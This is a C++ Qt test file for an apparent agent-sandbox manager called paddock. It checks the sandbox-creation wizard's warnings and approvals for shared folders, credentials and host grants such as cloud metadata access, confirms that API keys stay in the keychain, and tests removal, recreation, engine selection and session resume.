    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardAddFolderButton"))));
    QVERIFY(
        type(m_window, findInPopup(wizard, QStringLiteral("wizardVariableField")), QStringLiteral("PGHOST=postgres")));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardAddVariableButton"))));
    QTRY_VERIFY(findInPopup(wizard, QStringLiteral("wizardVariable")));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(!isShown(findInPopup(wizard, QStringLiteral("wizardSharedFolderProblem"))));
    // Kept for the kit's next sandboxes too.
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardRememberShares"))));
    QTRY_VERIFY(findInPopup(wizard, QStringLiteral("wizardRememberShares"))->property("checked").toBool());
    if (const QString shots = qEnvironmentVariable("PADDOCK_SCREENSHOT_DIR"); !shots.isEmpty())
        QVERIFY(m_window->grabWindow().save(shots + QStringLiteral("/wizard-shares.png")));
    QVERIFY(press(m_window, next));

    // 5. Review: what the kit asks for, and what it reaches on this computer as warnings.
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("5. Review"));
    const QString sharesLine = findInPopup(wizard, QStringLiteral("wizardReviewShares"))->property("text").toString();
    QVERIFY2(sharesLine.contains(QStringLiteral("/home/agent/.cache/shared (read-write)")) &&
                 sharesLine.contains(QStringLiteral("PGHOST")),
             qPrintable(sharesLine));
    QCOMPARE(findInPopup(wizard, QStringLiteral("wizardReviewImage"))->property("text").toString(),
             QStringLiteral("Image: debian:12"));
    // What the sandbox's root will be, in one line: the image when it is there, else the host's system.
    QTRY_VERIFY(findInPopup(wizard, QStringLiteral("wizardReviewRoot"))
                    ->property("text")
                    .toString()
                    .contains(QStringLiteral("image debian:12")));
    QCOMPARE(findInPopup(wizard, QStringLiteral("wizardReviewDomains"))->property("text").toString(),
             QStringLiteral("Allowed domains: api.keyed.test, *.keyed.test"));
    QVERIFY(findInPopup(wizard, QStringLiteral("wizardReviewCredentials"))
                ->property("text")
                .toString()
                .contains(QStringLiteral("testsvc (sent to api.keyed.test, *.keyed.test)")));
    QStringList warnings;
    for (QQuickItem *item : findItems(findInPopup(wizard, QStringLiteral("wizardReviewTitle"))->parentItem(),
                                      QStringLiteral("wizardWarning")))
        warnings << item->property("text").toString();
    QVERIFY2(warnings.join(QLatin1Char('\n'))
                 .contains(QStringLiteral("can read, change and delete every file in ") + m_workspace),
             qPrintable(warnings.join(QLatin1Char('\n'))));
    QVERIFY2(warnings.join(QLatin1Char('\n'))
                 .contains(QStringLiteral("testsvc key would be sent to every host matching *.keyed.test")),
             qPrintable(warnings.join(QLatin1Char('\n'))));
    QVERIFY(press(m_window, next));

    // 6. The key is missing: the key step asks for it; then the approval.
    QTRY_COMPARE_WITH_TIMEOUT(stepTitle->property("text").toString(), QStringLiteral("6. Keys and approvals"), 15000);
    QQuickItem *keyField = findInPopup(wizard, QStringLiteral("wizardKeyField_testsvc"));
    QVERIFY(isShown(keyField));
    QCOMPARE(keyField->property("echoMode").toInt(), 2); // TextInput.Password
    QVERIFY(!next->isEnabled());
    QVERIFY(type(m_window, keyField, kKey));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardKeySave_testsvc"))));
    QTRY_VERIFY_WITH_TIMEOUT(!findInPopup(wizard, QStringLiteral("wizardKeyField_testsvc")) ||
                                 !isShown(findInPopup(wizard, QStringLiteral("wizardKeyField_testsvc"))),
                             15000);
    QQuickItem *approve = findInPopup(wizard, QStringLiteral("wizardApproveButton"));
    QTRY_VERIFY(isShown(approve));
    QVERIFY(!next->isEnabled());
    QVERIFY(press(m_window, approve));
    QObject *binding = findObject(m_window, QStringLiteral("wizardBindingDialog"));
    QTRY_VERIFY(binding->property("opened").toBool());
    QVERIFY(isShown(findInPopup(binding, QStringLiteral("bindingWildcardWarning"))));
    QVERIFY(press(m_window, findInPopup(binding, QStringLiteral("bindingApproveAllButton"))));
    QTRY_VERIFY(!binding->property("visible").toBool());
    QTRY_VERIFY_WITH_TIMEOUT(isShown(findInPopup(wizard, QStringLiteral("wizardCredentialsReady"))), 15000);
    QVERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));

    // 7. Create and start.
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("7. Create and start"));
    QVERIFY(findInPopup(wizard, QStringLiteral("wizardSummary"))
                ->property("text")
                .toString()
                .endsWith(QStringLiteral("start it, and open its agent in a terminal.")));
    QVERIFY(!isShown(findInPopup(wizard, QStringLiteral("wizardNoTerminal"))));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardCreateButton"))));
    QTRY_VERIFY_WITH_TIMEOUT(!wizard->property("visible").toBool(), 60000);
    // The agent started with the sandbox; the terminal joins it.
    QCOMPARE(innerCommand(terminalRun()),
             (QStringList{QStringLiteral(PADDOCK_BIN), QStringLiteral("attach"), QStringLiteral("wiz")}));
    QTRY_VERIFY_WITH_TIMEOUT(row(QStringLiteral("wiz")), 15000);
    QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("wiz"), QStringLiteral("sandboxStatus")),
                              QStringLiteral("Running · agent running"), 15000);
    QVERIFY(rowText(QStringLiteral("wiz"), QStringLiteral("sandboxDetails"))
                .startsWith(QStringLiteral("Kit keyed · bwrap")));
    // What it shares is in its row, and in the sandbox itself.
    const QString shares = rowText(QStringLiteral("wiz"), QStringLiteral("sandboxShares"));
    QVERIFY2(shares.contains(QStringLiteral("→ /home/agent/.cache/shared (read-write)")) &&
                 shares.contains(QStringLiteral("variables PGHOST")),
             qPrintable(shares));
    const api::Reply inspected =
        daemonCall(QStringLiteral("sandbox.inspect"), {{QStringLiteral("name"), QStringLiteral("wiz")}});
    QCOMPARE(inspected.result()
                 .value(QLatin1String("sandbox"))
                 .toObject()
                 .value(QLatin1String("env"))
                 .toObject()
                 .value(QLatin1String("PGHOST"))
                 .toString(),
             QStringLiteral("postgres"));
    // The daemon checked and kept them as the kit's own (kit-settings.yaml), for its next sandboxes.
    const QJsonObject kitShares =
        daemonCall(QStringLiteral("kit.settings"), {{QStringLiteral("kit"), m_kits + QStringLiteral("/keyed")}})
            .result();
    const QJsonArray keptMounts = kitShares.value(QLatin1String("mounts")).toArray();
    QVERIFY2(keptMounts.size() == 1 &&
                 keptMounts.first().toString().endsWith(QLatin1String(":/home/agent/.cache/shared:rw")),
             QJsonDocument(kitShares).toJson().constData());
    QCOMPARE(kitShares.value(QLatin1String("env")).toObject().value(QLatin1String("PGHOST")).toString(),
             QStringLiteral("postgres"));
    // The wizards after this one start from none.
    QVERIFY(!daemonCall(QStringLiteral("kit.shares.set"), {{QStringLiteral("kit"), m_kits + QStringLiteral("/keyed")},
                                                           {QStringLiteral("mounts"), QJsonArray()},
                                                           {QStringLiteral("env"), QJsonObject()}})
                 .isError());

    // The key reached the keychain and nothing else.
    const api::Reply secrets = daemonCall(QStringLiteral("secret.list"));
    QCOMPARE(secrets.result()
                 .value(QLatin1String("secrets"))
                 .toArray()
                 .at(0)
                 .toObject()
                 .value(QLatin1String("masked"))
                 .toString(),
             kKey.left(4) + QStringLiteral("…") + kKey.right(4));
    const QStringList files = filesContaining(m_home, kKey.toUtf8());
    QVERIFY2(files.isEmpty(), qPrintable(files.join(QLatin1Char('\n'))));
    QFile credentials(m_home + QStringLiteral("/XDG_CONFIG_HOME/paddock/credentials.yaml"));
    QVERIFY(credentials.open(QIODevice::ReadOnly));
    QVERIFY(credentials.readAll().contains("api.keyed.test"));

    // A picture of the page with real sandboxes, next to the shell test's screenshots.
    const QString dir = QStringLiteral(PADDOCK_SCREENSHOT_DIR "/en");
    QDir().mkpath(dir);
    m_window->grabWindow().save(dir + QStringLiteral("/sandboxes-populated.png"));
}

void TestSandboxesPage::wizardAsksBeforeHostGrants()
{
    QVERIFY(press(m_window, findItem(m_window, QStringLiteral("newSandboxButton"))));
    QObject *wizard = openedDialog(m_window, QStringLiteral("wizardDialog"));
    QVERIFY(wizard);
    QQuickItem *next = findInPopup(wizard, QStringLiteral("wizardNextButton"));
    QQuickItem *stepTitle = findInPopup(wizard, QStringLiteral("wizardStepTitle"));
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardFolderField")), m_workspace));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardKit_homebound"))));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardNameField")), QStringLiteral("homebound")));
    QVERIFY(press(m_window, next));
    QTRY_VERIFY(next->isEnabled()); // nothing shared
    QVERIFY(press(m_window, next));

    // 5. The review lists each grant with what it reaches, and goes no further until allowed.
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("5. Review"));
    QStringList grants;
    for (QQuickItem *item : findItems(findInPopup(wizard, QStringLiteral("wizardReviewTitle"))->parentItem(),
                                      QStringLiteral("wizardHostGrant")))
        grants << item->property("text").toString();
    QCOMPARE(grants.size(), 2);
    QVERIFY2(grants.at(0).contains(QStringLiteral("127.0.0.1:* reaches loopback")), qPrintable(grants.at(0)));
    QVERIFY2(grants.at(1).contains(QStringLiteral("169.254.169.254:80 reaches cloud metadata")),
             qPrintable(grants.at(1)));
    QQuickItem *allow = findInPopup(wizard, QStringLiteral("wizardHostGrantsCheck"));
    QVERIFY(isShown(allow));
    QVERIFY(!allow->property("checked").toBool());
    QVERIFY(!next->isEnabled());
    QVERIFY(press(m_window, allow));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));

    // No key to enter: straight to create; the daemon records the approval for the kit.
    QTRY_COMPARE_WITH_TIMEOUT(stepTitle->property("text").toString(), QStringLiteral("6. Create and start"), 15000);
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardCreateButton"))));
    QTRY_VERIFY_WITH_TIMEOUT(!wizard->property("visible").toBool(), 60000);
    terminalRun();
    QTRY_VERIFY_WITH_TIMEOUT(row(QStringLiteral("homebound")), 15000);
    QFile approvals(m_home + QStringLiteral("/XDG_CONFIG_HOME/paddock/host-grants.yaml"));
    QVERIFY(approvals.open(QIODevice::ReadOnly));
    const QByteArray recorded = approvals.readAll();
    QVERIFY2(recorded.contains("homebound") && recorded.contains("169.254.169.254:80"), recorded.constData());
    QVERIFY(!daemonCall(QStringLiteral("sandbox.remove"),
                        {{QStringLiteral("name"), QStringLiteral("homebound")}, {QStringLiteral("force"), true}})
                 .isError());

    // A second sandbox of the kit: its grants are approved already, so the review lists them as
    // such and asks for nothing.
    QVERIFY(press(m_window, findItem(m_window, QStringLiteral("newSandboxButton"))));
    wizard = openedDialog(m_window, QStringLiteral("wizardDialog"));
    QVERIFY(wizard);
    next = findInPopup(wizard, QStringLiteral("wizardNextButton"));
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardFolderField")), m_workspace));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardKit_homebound"))));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    QVERIFY(press(m_window, next));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("5. Review"));
    QVERIFY(!isShown(findInPopup(wizard, QStringLiteral("wizardHostGrantsCheck"))));
    QVERIFY(next->isEnabled());
    QStringList again;
    for (QQuickItem *item : findItems(findInPopup(wizard, QStringLiteral("wizardReviewTitle"))->parentItem(),
                                      QStringLiteral("wizardHostGrant")))
        again << item->property("text").toString();
    QVERIFY2(again.size() == 2 && again.at(0).contains(QStringLiteral("(approved for this kit)")),
             qPrintable(again.join(QLatin1Char('\n'))));
    QMetaObject::invokeMethod(wizard, "close");
}

void TestSandboxesPage::wizardSaysWhenTheKitsProgramIsMissing()
{
    QVERIFY(press(m_window, findItem(m_window, QStringLiteral("newSandboxButton"))));
    QObject *wizard = openedDialog(m_window, QStringLiteral("wizardDialog"));
    QVERIFY(wizard);
    QQuickItem *next = findInPopup(wizard, QStringLiteral("wizardNextButton"));
    QQuickItem *stepTitle = findInPopup(wizard, QStringLiteral("wizardStepTitle"));
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardFolderField")), m_workspace));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardKit_ghostly"))));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardBackendBwrap"))));
    QVERIFY(press(m_window, next));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("5. Review"));
    // Under bubblewrap, with no image, the root is this computer's system, which has no such program.
    QTRY_VERIFY(findInPopup(wizard, QStringLiteral("wizardReviewRoot"))
                    ->property("text")
                    .toString()
                    .contains(QStringLiteral("The kit starts no-such-agent-7, which this computer does not have: "
                                             "the agent cannot start until the kit's image is loaded")));
    QMetaObject::invokeMethod(wizard, "close");
}

void TestSandboxesPage::wizardPickersOpenInHomeOrTheChoice()
{
    QVERIFY(press(m_window, findItem(m_window, QStringLiteral("newSandboxButton"))));
    QObject *wizard = openedDialog(m_window, QStringLiteral("wizardDialog"));
    QVERIFY(wizard);
    // "Choose…" with nothing chosen opens in the user's home, not in its parent.
    const auto pickerOpensIn = [&](const QString &button, const QString &picker) {
        if (!press(m_window, findInPopup(wizard, button)))
            return QUrl();
        QObject *dialog = findObject(wizard, picker);
        if (!dialog)
            dialog = findObject(m_window, picker);
        if (!dialog)
            return QUrl();
        if (!QTest::qWaitFor([&] { return dialog->property("visible").toBool(); }, 5000))
            return QUrl(QStringLiteral("not-opened"));
        const QUrl folder = dialog->property("currentFolder").toUrl();
        QMetaObject::invokeMethod(dialog, "reject");
        if (!QTest::qWaitFor([&] { return !dialog->property("visible").toBool(); }, 5000))
            return QUrl(QStringLiteral("not-closed"));
        return folder;
    };
    const QUrl home = QUrl::fromLocalFile(QDir::homePath());
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardFolderField")), QString()));
    QCOMPARE(pickerOpensIn(QStringLiteral("wizardFolderBrowseButton"), QStringLiteral("wizardFolderPicker")), home);
    // With a folder chosen, in that folder.
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardFolderField")), m_workspace));
    QTRY_COMPARE(wizard->property("wizard").value<QObject *>()->property("folder").toString(), m_workspace);
    QCOMPARE(pickerOpensIn(QStringLiteral("wizardFolderBrowseButton"), QStringLiteral("wizardFolderPicker")),
             QUrl::fromLocalFile(m_workspace));
    QQuickItem *next = findInPopup(wizard, QStringLiteral("wizardNextButton"));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));
    // The kit picker likewise: home, then the kit folder chosen.
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardKitField")), QString()));
    QTest::keyClick(m_window, Qt::Key_Return);
    QCOMPARE(pickerOpensIn(QStringLiteral("wizardKitBrowseButton"), QStringLiteral("wizardKitPicker")), home);
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardKit_keyed"))));
    QCOMPARE(pickerOpensIn(QStringLiteral("wizardKitBrowseButton"), QStringLiteral("wizardKitPicker")),
             QUrl::fromLocalFile(m_kits + QStringLiteral("/keyed")));
    QMetaObject::invokeMethod(wizard, "close");
}

void TestSandboxesPage::aMissingProgramIsSaidInTheRowAndTheTerminal()
{
    // Under bubblewrap without the kit's image, its program is not in the sandbox.
    const api::Reply created =
        daemonCall(QStringLiteral("sandbox.create"), {{QStringLiteral("kit"), m_kits + QStringLiteral("/ghostly")},
                                                      {QStringLiteral("workspace"), m_workspace},
                                                      {QStringLiteral("name"), QStringLiteral("ghost")},
                                                      {QStringLiteral("backend"), QStringLiteral("bwrap")}});
    QVERIFY2(!created.isError(), qPrintable(created.errorMessage()));
    const api::Reply started =
        daemonCall(QStringLiteral("sandbox.start"), {{QStringLiteral("name"), QStringLiteral("ghost")}});
    QVERIFY2(!started.isError(), qPrintable(started.errorMessage()));

    // The row says why the agent is not running.
    const QString reason = QStringLiteral("no-such-agent-7: command not found (exit 127)");
    QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("ghost"), QStringLiteral("sandboxStatus")),
                              QStringLiteral("Running · the agent exited: ") + reason, 20000);

    // The terminal says it too, and does not send the user to a start that cannot work.
    for (const QStringList &attach :
         {QStringList{QStringLiteral("attach"), QStringLiteral("ghost")},
          QStringList{QStringLiteral("attach"), QStringLiteral("--start"), QStringLiteral("ghost")}}) {
        QProcess process;
        process.start(QStringLiteral(PADDOCK_BIN), attach);
        QVERIFY(process.waitForStarted());
        QVERIFY(process.waitForFinished(30000));
        const QString said = QString::fromUtf8(process.readAllStandardError());
        QVERIFY(process.exitCode() != 0);
        QVERIFY2(said.contains(reason), qPrintable(said));
        QVERIFY2(!said.contains(QStringLiteral("attach --start")), qPrintable(said));
    }
    QVERIFY(!daemonCall(QStringLiteral("sandbox.remove"),
                        {{QStringLiteral("name"), QStringLiteral("ghost")}, {QStringLiteral("force"), true}})
                 .isError());
}

void TestSandboxesPage::servicesDialogSaysTheDaemonsRefusal()
{
    const QString name = QStringLiteral("with-services");
    QVERIFY(createFromDaemon(name, m_kits + QStringLiteral("/plain")));
    QTRY_VERIFY_WITH_TIMEOUT(row(name), 15000);
    QVERIFY(press(m_window, rowButton(name, QStringLiteral("sandboxServicesButton"))));
    QObject *dialog = openedDialog(m_window, QStringLiteral("sandboxServicesDialog"));
    QVERIFY(dialog);
    QTRY_VERIFY(isShown(findInPopup(dialog, QStringLiteral("sandboxServicesNone"))));

    QVERIFY(type(m_window, findInPopup(dialog, QStringLiteral("sandboxServiceName")), QStringLiteral("db")));
    QVERIFY(type(m_window, findInPopup(dialog, QStringLiteral("sandboxServiceImage")),
                 QStringLiteral("paddock-svc-test/no-such-image:1")));
    QVERIFY(type(m_window, findInPopup(dialog, QStringLiteral("sandboxServicePort")), QStringLiteral("99999")));
    QQuickItem *error = findInPopup(dialog, QStringLiteral("sandboxServicesError"));
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("sandboxServiceAdd"))));
    QTRY_COMPARE(error->property("text").toString(), QStringLiteral("The port is a number from 1 to 65535."));

    QVERIFY(type(m_window, findInPopup(dialog, QStringLiteral("sandboxServicePort")), QStringLiteral("5432")));
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("sandboxServiceAdd"))));
    // The daemon's own words: no engine answers, or the engine has no such image.
    QTRY_VERIFY_WITH_TIMEOUT(
        error->property("text").toString().contains(QStringLiteral("is not in the Docker engine")) ||
            error->property("text").toString().contains(QStringLiteral("none answers")),
        30000);
    QVERIFY(isShown(error));
    const api::Reply listed = daemonCall(QStringLiteral("service.list"), {{QStringLiteral("sandbox"), name}});
    QCOMPARE(listed.result().value(QLatin1String("services")).toArray().size(), 0);
    QVERIFY(QMetaObject::invokeMethod(dialog, "close"));
    QTRY_VERIFY(!dialog->property("visible").toBool());
    QVERIFY(!daemonCall(QStringLiteral("sandbox.remove"), {{QStringLiteral("name"), name}}).isError());
}

void TestSandboxesPage::removeAsksFirst()
{
    QVERIFY(ensureRunning(QStringLiteral("doomed")));
    // Cancelled: still there.
    QVERIFY(press(m_window, rowButton(QStringLiteral("doomed"), QStringLiteral("sandboxRemoveButton"))));
    QObject *dialog = openedDialog(m_window, QStringLiteral("sandboxRemoveDialog"));
    QVERIFY(dialog);
    QVERIFY(findInPopup(dialog, QStringLiteral("sandboxRemoveText"))
                ->property("text")
                .toString()
                .contains(QStringLiteral("doomed is running: it will be stopped first.")));
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("sandboxRemoveCancelButton"))));
    QTRY_VERIFY(!dialog->property("visible").toBool());
    QVERIFY(row(QStringLiteral("doomed")));

    // Confirmed: stopped, removed, gone from the daemon too.
    QVERIFY(press(m_window, rowButton(QStringLiteral("doomed"), QStringLiteral("sandboxRemoveButton"))));
    QTRY_VERIFY(dialog->property("opened").toBool());
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("sandboxRemoveConfirmButton"))));
    QTRY_VERIFY_WITH_TIMEOUT(!row(QStringLiteral("doomed")), 20000);
    QCOMPARE(
        daemonCall(QStringLiteral("sandbox.inspect"), {{QStringLiteral("name"), QStringLiteral("doomed")}}).errorCode(),
        QStringLiteral("no-such-sandbox"));
}

void TestSandboxesPage::recreateAsksThenRunsItAgain()
{
    QVERIFY(ensureRunning(QStringLiteral("remade")));
    QVERIFY(press(m_window, rowButton(QStringLiteral("remade"), QStringLiteral("sandboxRecreateButton"))));
    QObject *dialog = openedDialog(m_window, QStringLiteral("sandboxRecreateDialog"));
    QVERIFY(dialog);
    QVERIFY(findInPopup(dialog, QStringLiteral("sandboxRecreateText"))
                ->property("text")
                .toString()
                .contains(QStringLiteral("Its volumes and your project folder are kept")));
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("sandboxRecreateConfirmButton"))));
    // Made again through the daemon, and running again as it was.
    QQuickItem *message = findItem(m_window, QStringLiteral("sandboxesMessage"));
    QVERIFY(message);
    QTRY_VERIFY_WITH_TIMEOUT(message->property("text").toString() == QStringLiteral("remade recreated."), 60000);
    QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("remade"), QStringLiteral("sandboxStatus")),
                              QStringLiteral("Running · agent running"), 20000);
    QVERIFY(!daemonCall(QStringLiteral("sandbox.remove"),
                        {{QStringLiteral("name"), QStringLiteral("remade")}, {QStringLiteral("force"), true}})
                 .isError());
}

void TestSandboxesPage::enginesShowTheOneInUse()
{
    const auto engineText = [this](const QString &name) {
        QQuickItem *engineRow = findItem(m_window, QStringLiteral("engineRow_") + name);
        QQuickItem *label = engineRow ? engineRow->childItems().value(0) : nullptr;
        return label ? label->property("text").toString() : QString();
    };
    QTRY_VERIFY_WITH_TIMEOUT(engineText(QStringLiteral("local")).contains(QStringLiteral("(in use)")), 15000);
    QVERIFY2(engineText(QStringLiteral("far")).contains(QStringLiteral("tcp://192.0.2.7:2376")),
             qPrintable(engineText(QStringLiteral("far"))));
    QVERIFY(engineText(QStringLiteral("far")).contains(QStringLiteral("on another computer")));
    QVERIFY(!isShown(findItem(m_window, QStringLiteral("engineUseButton_local"))));

    QVERIFY(press(m_window, findItem(m_window, QStringLiteral("engineUseButton_far"))));
    QTRY_VERIFY(engineText(QStringLiteral("far")).contains(QStringLiteral("(in use)")));
    QVERIFY(!engineText(QStringLiteral("local")).contains(QStringLiteral("(in use)")));
    QCOMPARE(daemonCall(QStringLiteral("engine.list")).result().value(QLatin1String("use")).toString(),
             QStringLiteral("far"));
    // Chosen elsewhere (`paddock engine use local`): the section follows.
    QVERIFY(!daemonCall(QStringLiteral("engine.use"), {{QStringLiteral("name"), QStringLiteral("local")}}).isError());
    QTRY_VERIFY(engineText(QStringLiteral("local")).contains(QStringLiteral("(in use)")));
}

// A v3 kit declaring its agent's verbs: Open agent starts the kit's new session, and Resume
// session… lists the ids the kit's list command prints inside the real sandbox.
void TestSandboxesPage::resumeSessionOffersTheKitsIds()
{
    const QString busybox =
        QStandardPaths::findExecutable(QStringLiteral("busybox"), {QStringLiteral("/bin"), QStringLiteral("/usr/bin")});
    PADDOCK_NEED(!busybox.isEmpty(), "a static busybox (apt install busybox-static)");
    QFile program(busybox);
    QVERIFY(program.open(QIODevice::ReadOnly));
    test::OciKit kit;
    kit.refName = QStringLiteral("registry.example/kits/verbs:1");
    kit.layers = {test::tarOf({test::folder("bin"), test::file("bin/busybox", program.readAll(), 0755),
                               test::softLink("bin/sh", "busybox")})};
    kit.config =
        QJsonObject{{QStringLiteral("Entrypoint"), QJsonArray{QStringLiteral("/bin/sh"), QStringLiteral("-c")}},
                    {QStringLiteral("Cmd"), QJsonArray{QStringLiteral("sleep 600")}}};
    kit.manifestAnnotations = test::kitAnnotations(
        R"({"schemaVersion":"3","kind":"workload","capabilities":[)"
        R"({"type":"com.docker.sandbox/agent-interactive-sessions@1","config":{)"
        R"("resume":["--resume={{.SessionID}}"],"continue":[],"list":"echo newest; echo older"}}]})");
    const QString archive = m_home + QStringLiteral("/verbs.tar");
    QVERIFY(writeFile(archive, test::ociKitArchive(kit)));
    QProcess cli;
    cli.start(QStringLiteral(PADDOCK_BIN), {QStringLiteral("kit"), QStringLiteral("load"), archive});
    QVERIFY2(cli.waitForFinished(60000) && cli.exitCode() == 0, cli.readAllStandardError().constData());
    cli.start(QStringLiteral(PADDOCK_BIN), {QStringLiteral("create"), QStringLiteral("--kit"), QStringLiteral("verbs"),
                                            QStringLiteral("--name"), QStringLiteral("verbs"), m_workspace});
    QVERIFY2(cli.waitForFinished(60000) && cli.exitCode() == 0, cli.readAllStandardError().constData());
    QTRY_VERIFY_WITH_TIMEOUT(row(QStringLiteral("verbs")), 20000);

    // Stopped, with its kit's new session: `paddock agent NAME`.
    QVERIFY(press(m_window, rowButton(QStringLiteral("verbs"), QStringLiteral("sandboxAgentButton"))));
    QCOMPARE(innerCommand(terminalRun()),
             (QStringList{QStringLiteral(PADDOCK_BIN), QStringLiteral("agent"), QStringLiteral("verbs")}));
    QVERIFY(!daemonCall(QStringLiteral("sandbox.start"),
                        {{QStringLiteral("name"), QStringLiteral("verbs")}, {QStringLiteral("agent"), false}})
                 .isError());

    QQuickItem *resume = rowButton(QStringLiteral("verbs"), QStringLiteral("sandboxResumeButton"));
    QVERIFY(resume && resume->isVisible());
    QQuickItem *other = rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxResumeButton"));
    QVERIFY(!other || !other->isVisible());
    QVERIFY(press(m_window, resume));
    QObject *menu = findObject(m_window, QStringLiteral("sessionsMenu"));
    QTRY_VERIFY_WITH_TIMEOUT(menu && menu->property("opened").toBool(), 30000);
    QTRY_VERIFY(findInPopup(menu, QStringLiteral("sessionItem_older")));
    QVERIFY(findInPopup(menu, QStringLiteral("sessionItem_newest")));
    QVERIFY(findInPopup(menu, QStringLiteral("continueSessionItem"))->isVisible());
    // A picture of it for a person to look at, when asked for one.
    if (const QString shots = qEnvironmentVariable("PADDOCK_SCREENSHOT_DIR"); !shots.isEmpty())
        QVERIFY(m_window->grabWindow().save(shots + QStringLiteral("/resume-session.png")));
    QVERIFY(press(m_window, findInPopup(menu, QStringLiteral("sessionItem_older"))));
    QCOMPARE(innerCommand(terminalRun()),
             (QStringList{QStringLiteral(PADDOCK_BIN), QStringLiteral("agent"), QStringLiteral("verbs"),
                          QStringLiteral("-t"), QStringLiteral("--resume"), QStringLiteral("older")}));
    daemonCall(QStringLiteral("sandbox.remove"),
               {{QStringLiteral("name"), QStringLiteral("verbs")}, {QStringLiteral("force"), true}});
}

PADDOCK_TEST_MAIN_IN_PRIVATE_KEYRING(TestSandboxesPage, QGuiApplication)

#include "tst_sandboxes_page.moc"
